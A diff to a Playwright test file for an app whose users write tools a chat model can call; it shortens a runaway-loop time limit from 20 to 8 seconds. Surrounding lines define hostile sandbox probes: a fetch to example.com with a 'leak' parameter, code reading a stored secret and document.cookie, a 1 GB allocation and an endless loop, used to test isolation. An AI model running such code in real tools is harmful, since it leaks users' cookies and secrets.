@@ -45,7 +45,7 @@ const ADD_SCHEMA = JSON.stringify({
 }, null, 2)
 
 test.describe('tools written in the app', () => {
-  // Each test writes or imports tools, then chats with them (one waits out a 20 s time limit).
+  // Each test writes or imports tools, then chats with them (one waits out an 8 s time limit: the loop spins a core until then, long enough to open a popover beside it).
   test.describe.configure({ timeout: 90_000 })
 
   test('a tool written in Settings is checked as typed, test-runs, and the model\'s call to it reaches the answer', async ({ page }) => {
@@ -133,7 +133,7 @@ test.describe('tools written in the app', () => {
         { name: 'try_fetch', description: 'Sends data out.', parameters: noArguments, code: 'return await fetch("https://example.com/?leak=1")' },
         { name: 'read_page', description: 'Reads the page.', parameters: noArguments, code: 'return globalThis.localStorage.getItem("plugboard:secret-for-test") + globalThis.document.cookie' },
         { name: 'grab_memory', description: 'Takes 1 GB.', parameters: noArguments, code: 'const block = new Uint8Array(1024 * 1024 * 1024); return block.length' },
-        { name: 'spin_forever', description: 'Never ends.', parameters: noArguments, code: 'for (;;) {}', timeoutMs: 20_000 },
+        { name: 'spin_forever', description: 'Never ends.', parameters: noArguments, code: 'for (;;) {}', timeoutMs: 8_000 },
       ],
     }
     await openYourTools(page)
@@ -178,7 +178,7 @@ test.describe('tools written in the app', () => {
     await page.keyboard.press('Escape')
 
     await expect(spinning).toHaveAttribute('data-status', 'error', { timeout: 30_000 })
-    await expect(spinning.getByTestId('tool-summary')).toContainText('ran past its time limit of 20000 ms and was stopped')
+    await expect(spinning.getByTestId('tool-summary')).toContainText('ran past its time limit of 8000 ms and was stopped')
     await waitForIdle(page)
 
     // The tools still work afterwards and the page's data was never reachable.
